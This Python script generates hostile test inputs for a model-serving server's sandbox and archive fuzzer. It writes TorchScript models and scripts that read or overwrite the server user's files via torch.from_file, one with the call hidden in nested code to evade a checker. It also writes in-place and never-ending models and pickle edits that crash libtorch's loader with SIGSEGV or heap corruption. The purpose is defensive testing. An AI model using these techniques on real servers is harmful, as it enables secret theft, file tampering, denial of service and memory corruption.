"""Writes hostile TorchScript models, scripts and archives into the directory given.

These are the inputs that the model sandbox and the load-time operator check must survive: code
that reads or writes files of the server's user, in-place operators that write into their inputs,
code that never ends, and archives that crash libtorch's own loader. They seed the model archive
fuzzer (model_archive_fuzz.cpp) and the tests of the sandbox.

Usage: python3 make_hostile_models.py OUT_DIR [--secret PATH] [--check]

  --secret PATH  the file that from_file_model.pt and hidden_from_file_model.pt read (default
                 /tmp/slipstream-hostile-secret; it must hold at least 16 bytes when they run)
  --check        load every archive in a child process and check that it behaves as described
                 below (the crashing ones must die by a signal); exits 1 when one does not

Run with Debian's python3 (python3-torch 1.13). Generation is deterministic: no randomness, fixed
zip timestamps, no machine paths in the rewritten archives.

What each file is:
  from_file_model.pt         forward() returns 16 bytes of the secret file via torch.from_file
  hidden_from_file_model.pt  the same call hidden in a submodule's method, inside an `if` block of
                             a free function it calls: a checker must walk every method, every
                             submodule, every nested block and every called function
  from_file_script.txt       read_file(tensors, keys, args): ARGS path size -> the file's bytes;
                             write_file(tensors, keys, args): ARGS path -> writes tensors[0] into
                             the file through a shared mapping (from_file(shared=True) + copy_),
                             growing it if needed
  inplace_relu.pt            Sequential(ReLU(inplace=True), x * 2): overwrites its input
  inplace_script.txt         f(tensors, keys, args) and g(x): x.sub_(1.0); return x
  spin_script.txt            spin(tensors, keys, args) and spin_plain(x): `while True:` on tensors
  spin_model.pt              forward() loops 2**62 times over a tensor op (never ends in practice)
  crash_archive.pt           data.pkl's first GLOBAL made a TUPLE1: libtorch's unpickler reads below
                             its empty stack and dies with SIGSEGV (see make_crash_archive)
  crash_heap_archive.pt      one other byte changed: heap corruption, glibc aborts (SIGABRT)
  bad_truncated.pt           the first half of a valid archive (clean error)
  bad_garbage.pt             4 KiB of deterministic pseudo-random bytes (clean error)
  bad_no_data_pkl.pt         a valid archive without its data.pkl entry (clean error)
  bad_version.pt             a valid archive whose `version` record is 999 (clean error)
  onnx_mlp.onnx              ONNX seeds of the fuzzer (stored with backend ONNX): an MLP
  onnx_shapes.onnx           and a model whose graph computes shapes (Shape, Gather, Concat,
                             Reshape, Transpose), both from torch.onnx.export at opset 13
"""
import hashlib
import io
import os
import pickletools
import subprocess
import sys
import zipfile
from typing import Dict, List, Optional, Tuple

import torch

DEFAULT_SECRET = "/tmp/slipstream-hostile-secret"
SECRET_BYTES = 16
FIXED_ZIP_TIME = (1980, 1, 1, 0, 0, 0)

Entries = List[Tuple[str, bytes]]  # an archive's entries: (name with its top folder, bytes)

# --- models that read files ----------------------------------------------------------------------


class FromFile(torch.nn.Module):
    """The attack reported against the server: a model that returns a file of the server's user
    (any mode, 0600 included, since the server opens it) as a uint8 tensor."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.size = SECRET_BYTES

    def forward(self, x):
        return torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)


@torch.jit.script
def maybe_read(path: str, size: int, x: torch.Tensor) -> torch.Tensor:
    # The call sits in a nested block of a function that forward() never names directly.
    if bool(x.numel() >= 0):
        return torch.from_file(path, shared=False, size=size, dtype=torch.uint8)
    return x.to(torch.uint8)


class Reader(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.size = SECRET_BYTES

    @torch.jit.export
    def fetch(self, x: torch.Tensor) -> torch.Tensor:
        return maybe_read(self.path, self.size, x)

    def forward(self, x):
        return x


class HiddenFromFile(torch.nn.Module):
    """forward -> self.reader.fetch (a submodule's exported method) -> maybe_read -> if-block ->
    aten::from_file."""

    def __init__(self, path: str):
        super().__init__()
        self.reader = Reader(path)

    def forward(self, x):
        return self.reader.fetch(x)


FROM_FILE_SCRIPT = '''\
# Reads and writes files of the server's user. Both entry points use RedisAI 1.2's signature.
# read_file  ARGS 2 path size   -> the first `size` bytes of the file, as UINT8
# write_file ARGS 1 path        -> writes tensors[0]'s bytes over the start of the file (growing it)
# dtype=0 is uint8 (torch.uint8 is not a value in scripts compiled without Python).
def read_file(tensors: List[Tensor], keys: List[str], args: List[str]):
    return torch.from_file(args[0], shared=False, size=int(args[1]), dtype=0)

def write_file(tensors: List[Tensor], keys: List[str], args: List[str]):
    source = tensors[0].flatten()
    target = torch.from_file(args[0], shared=True, size=source.numel(), dtype=0)
    target.copy_(source)
    return target
'''

# --- in-place operators --------------------------------------------------------------------------


class Double(torch.nn.Module):
    def forward(self, x):
        return x * 2.0


INPLACE_SCRIPT = '''\
# Both entry points write into their input tensor; a server that hands the stored tensor's memory
# to the run sees the stored input change (or, where that memory is mapped read-only, a SIGSEGV).
def f(tensors: List[Tensor], keys: List[str], args: List[str]):
    x = tensors[0]
    x.sub_(1.0)
    return x

def g(x):
    x.sub_(1.0)
    return x
'''

# --- code that never ends ------------------------------------------------------------------------

SPIN_SCRIPT = '''\
# Never returns: `while True` compiles to a prim::Loop whose trip count is INT64_MAX.
def spin(tensors: List[Tensor], keys: List[str], args: List[str]):
    x = tensors[0]
    while True:
        x = x * 1.0 + 0.0
    return x

def spin_plain(x):
    while True:
        x = x * 1.0 + 0.0
    return x
'''


class Spin(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.iterations = 1 << 62

    def forward(self, x):
        for _ in range(self.iterations):
            x = x * 1.0 + 0.0
        return x


# --- archives ------------------------------------------------------------------------------------


class Tiny(torch.nn.Module):
    """The smallest useful seed: one parameter, one multiply. Its data.pkl (about 220 bytes)
    starts:
        80 02                        PROTO 2
        63 '__torch__\\nTiny\\n'       GLOBAL __torch__.Tiny    <- crash_archive.pt changes this
        71 00                        BINPUT 0
        29                           EMPTY_TUPLE               <- crash_heap_archive.pt this
        81                           NEWOBJ
        7d                           EMPTY_DICT
        ...                          the parameter: _rebuild_tensor_v2(persistent storage "0", ...)
    """

    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(2))

    def forward(self, x):
        return x * self.w


def archive_entries(saved: bytes) -> Entries:
    """The entries of a torch.jit.save archive as (name, bytes), debug tables dropped (they record
    the generator's own path, which must not leak into the files)."""
    with zipfile.ZipFile(io.BytesIO(saved)) as archive:
        return [(info.filename, archive.read(info.filename)) for info in archive.infolist()
                if not info.filename.endswith(".debug_pkl")]


def saved_bytes(module) -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    return buffer.getvalue()


def write_archive(entries: Entries, replace: Optional[Dict[str, Optional[bytes]]] = None) -> bytes:
    """Rewrites entries as a zip (stored, fixed timestamps, same top-level folder). `replace` maps
    a name below the folder (e.g. "data.pkl") to new bytes, or to None to drop the entry.
    libtorch 1.13's reader does not need the 64-byte data alignment torch.jit.save writes: every
    unchanged rewrite loads (checked by --check on the seeds)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries:
            short = name.split("/", 1)[1]
            if short in replace:
                if replace[short] is None:
                    continue
                data = replace[short]
            info = zipfile.ZipInfo(name, FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_STORED
            archive.writestr(info, data)
    return out.getvalue()


def entry(entries: Entries, short: str) -> bytes:
    return next(data for name, data in entries if name.split("/", 1)[1] == short)


def replace_opcode(pickle: bytes, name: str, new: bytes) -> bytes:
    """Replaces the first instruction called `name` (pickletools' names) in `pickle`, opcode and
    argument, by `new`: the stream stays well formed (every length within the pickle), so the
    server's bounds check of the archive's pickles lets it through to libtorch's unpickler."""
    ops = list(pickletools.genops(pickle))
    for (opcode, _, offset), (_, _, following) in zip(ops, ops[1:]):
        if opcode.name == name:
            return pickle[:offset] + new + pickle[following:]
    raise RuntimeError(f"no {name} opcode in data.pkl: torch's pickle layout changed")


def make_crash_archive(entries: Entries) -> bytes:
    """SIGSEGV in torch::jit::Unpickler::readInstruction (libtorch 1.13), reached from
    torch::jit::load -> import_ir_module -> readArchiveAndTensors -> Unpickler::parse_ivalue.

    The first instruction after PROTO in data.pkl (byte 2), the GLOBAL 'c' that pushes the
    module's class (its two text lines with it), becomes TUPLE1 (0x85). TUPLE1 runs on the still-empty stack: the unpickler pops "one
    value" without checking that the stack holds one, copies an IValue from the memory below the
    vector's start and dereferences a garbage pointer. (STOP on an empty stack is checked and
    fails cleanly; the single-value opcodes TUPLE1, TUPLE2, BINPERSID, REDUCE and BUILD are not.)
    The same edit in constants.pkl crashes the same way. Python's torch.jit.load dies identically:
    the crash is in libtorch, before any Python or server code sees the module."""
    pickle = replace_opcode(entry(entries, "data.pkl"), "GLOBAL", b"\x85")
    return write_archive(entries, {"data.pkl": pickle})


def make_heap_crash_archive(entries: Entries) -> bytes:
    """SIGABRT from glibc ("free(): invalid size") while import_ir_module unwinds.

    The first EMPTY_TUPLE ')' of data.pkl, which NEWOBJ takes as the class's arguments, becomes
    TUPLE1: the class itself is wrapped as the "arguments", NEWOBJ then pops past what is there
    and the unpickler's bookkeeping writes outside its stack. The heap is corrupt; glibc notices
    at the next free and aborts. Worse than a clean segfault: a write out of bounds."""
    pickle = replace_opcode(entry(entries, "data.pkl"), "EMPTY_TUPLE", b"\x85")
    return write_archive(entries, {"data.pkl": pickle})


def garbage(size: int) -> bytes:
    """Deterministic pseudo-random bytes (a SHA-256 chain), starting like a zip so the reader gets
    past its first check."""
    out = bytearray(b"PK\x03\x04")
    block = b"slipstream hostile"
    while len(out) < size:
        block = hashlib.sha256(block).digest()
        out += block
    return bytes(out[:size])


# --- writing and checking ------------------------------------------------------------------------

# How each archive must behave under torch.jit.load in a child process.
LOADS, FAILS, CRASHES = "loads", "fails cleanly", "dies by a signal"


def check_archive(path: str) -> str:
    probe = "import sys, torch; torch.jit.load(sys.argv[1])"
    result = subprocess.run([sys.executable, "-c", probe, path], capture_output=True, timeout=120)
    if result.returncode < 0:
        return CRASHES
    return LOADS if result.returncode == 0 else FAILS


class OnnxMlp(torch.nn.Module):
    def __init__(self):
        super().__init__()
        torch.manual_seed(5)
        self.a = torch.nn.Linear(4, 8)
        self.b = torch.nn.Linear(8, 3)

    def forward(self, x):
        return torch.softmax(self.b(torch.tanh(self.a(x))), dim=-1)


class OnnxShapes(torch.nn.Module):
    def forward(self, x):
        flat = x.reshape(x.size(0), -1)
        return torch.cat([flat, flat * 2], dim=1).transpose(0, 1)


def onnx_bytes(module, example) -> bytes:
    """`module` exported to ONNX (opset 13, a dynamic first dimension)."""
    buffer = io.BytesIO()
    torch.onnx.export(module.eval(), example, buffer, opset_version=13, input_names=["x"],
                      output_names=["y"], dynamic_axes={"x": {0: "n"}})
    return buffer.getvalue()


def main(argv: List[str]) -> int:
    args = argv[1:]
    check = "--check" in args
    if check:
        args.remove("--check")
    secret = DEFAULT_SECRET
    if "--secret" in args:
        at = args.index("--secret")
        secret = args[at + 1]
        del args[at:at + 2]
    if len(args) != 1:
        print(__doc__, file=sys.stderr)
        return 2
    out = args[0]
    os.makedirs(out, exist_ok=True)

    written = []  # (name, expected behaviour under torch.jit.load or None for text, note)

    def save_bytes(name: str, data: bytes, expected: Optional[str], note: str) -> None:
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        written.append((name, expected, note))

    def save_module(name: str, module, note: str) -> None:
        save_bytes(name, write_archive(archive_entries(saved_bytes(module))), LOADS, note)

    def save_text(name: str, text: str, note: str) -> None:
        torch.jit.CompilationUnit(text)  # every script must compile: the attack is at run time
        save_bytes(name, text.encode(), None, note)

    save_module("from_file_model.pt", torch.jit.script(FromFile(secret)),
                f"forward() returns {SECRET_BYTES} bytes of {secret}")
    save_module("hidden_from_file_model.pt", torch.jit.script(HiddenFromFile(secret)),
                "from_file inside submodule method -> function -> if block")
    save_text("from_file_script.txt", FROM_FILE_SCRIPT, "read_file / write_file (ARGS path ...)")
    save_module("inplace_relu.pt",
                torch.jit.script(torch.nn.Sequential(torch.nn.ReLU(inplace=True), Double())),
                "ReLU(inplace=True) then * 2")
    save_text("inplace_script.txt", INPLACE_SCRIPT, "f(tensors, keys, args) and g(x): x.sub_(1.0)")
    save_text("spin_script.txt", SPIN_SCRIPT, "spin(tensors, keys, args) and spin_plain(x)")
    save_module("spin_model.pt", torch.jit.script(Spin()), "2**62 iterations")

    tiny = archive_entries(saved_bytes(torch.jit.script(Tiny())))
    save_bytes("crash_archive.pt", make_crash_archive(tiny), CRASHES,
               "data.pkl GLOBAL -> TUPLE1 on an empty stack: SIGSEGV in the unpickler")
    save_bytes("crash_heap_archive.pt", make_heap_crash_archive(tiny), CRASHES,
               "data.pkl EMPTY_TUPLE -> TUPLE1: heap corruption, SIGABRT")
    valid = write_archive(tiny)
    save_bytes("bad_truncated.pt", valid[:len(valid) // 2], FAILS, "first half of a valid archive")
    save_bytes("bad_garbage.pt", garbage(4096), FAILS, "4 KiB of pseudo-random bytes")
    save_bytes("bad_no_data_pkl.pt", write_archive(tiny, {"data.pkl": None}), FAILS,
               "valid archive without data.pkl")
    save_bytes("bad_version.pt", write_archive(tiny, {"version": b"999\n"}), FAILS,
               "version record 999")

    save_bytes("onnx_mlp.onnx", onnx_bytes(OnnxMlp(), torch.randn(2, 4)), None,
               "ONNX: Linear, Tanh, Linear, Softmax")
    save_bytes("onnx_shapes.onnx", onnx_bytes(OnnxShapes(), torch.randn(2, 3, 4)), None,
               "ONNX: shapes computed in the graph")

    failures = 0
    for name, expected, note in written:
        size = os.path.getsize(os.path.join(out, name))
        line = f"{name:28} {size:6} bytes  {note}"
        if check and expected is not None:
            actual = check_archive(os.path.join(out, name))
            ok = actual == expected
            failures += not ok
            line += f"  [{actual}{'' if ok else ', expected ' + expected}]"
        print(line)
    print("hostile models written to", out)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
